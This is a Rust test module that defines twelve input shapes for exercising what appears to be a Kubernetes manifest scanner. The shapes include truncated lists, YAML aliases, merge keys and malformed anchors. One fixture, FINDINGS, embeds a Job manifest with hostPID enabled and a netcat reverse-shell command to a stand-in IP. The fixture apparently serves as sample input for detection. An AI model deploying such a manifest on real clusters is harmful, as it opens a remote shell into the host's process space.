//! Text that is no single object.

use super::{Shape, fill};

const FINDINGS: &str = "---\nkind: Job\nspec: {template: {spec: {hostPID: true, containers: [{args: [nc -e sh 192.0.2.1 1]}]}}}\n";

pub(super) const FILES: [Shape; 12] = [
    Shape { name: "empty documents", make: |size| fill(size, "", &["---\n"]) },
    Shape { name: "small documents", make: |size| fill(size, "", &["---\nkind: Job\n"]) },
    Shape { name: "documents with findings", make: |size| fill(size, "", &[FINDINGS]) },
    Shape {
        name: "objects of a list",
        make: |size| {
            fill(size, "kind: List\nitems:\n", &["- {kind: CronJob, spec: {schedule: '* * * * *'}}\n"])
        },
    },
    Shape { name: "open lists", make: |size| fill(size, "", &["["]) },
    Shape { name: "open fields", make: |size| fill(size, "", &["{a: "]) },
    Shape { name: "open JSON", make: |size| fill(size, "", &["{\"kind\":"]) },
    Shape { name: "nested items", make: |size| fill(size, "", &["- "]) },
    Shape { name: "aliases", make: |size| fill(size, "a: &a [x]\nb:\n", &["- *a\n"]) },
    Shape { name: "merge keys", make: |size| fill(size, "a: &a {x: 1}\nb:\n", &["- {<<: *a}\n"]) },
    Shape { name: "anchors", make: |size| fill(size, "kind: Job\nspec:\n", &["- &a# x\n", "- *a#\n"]) },
    Shape { name: "keys", make: |size| fill(size, "kind: Job\nspec:\n", &[" k#: v\n"]) },
];
